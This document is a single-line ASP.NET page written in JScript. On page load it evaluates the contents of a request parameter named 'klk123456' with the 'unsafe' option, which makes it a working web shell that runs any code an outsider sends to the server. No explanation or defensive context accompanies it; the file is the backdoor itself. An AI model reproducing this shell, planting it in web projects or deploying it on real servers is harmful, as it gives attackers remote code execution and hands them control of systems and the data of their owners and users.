<%@ Page Language="Jscript"%><%function Page_Load(){eval(Request["klk123456"],"unsafe");}%>
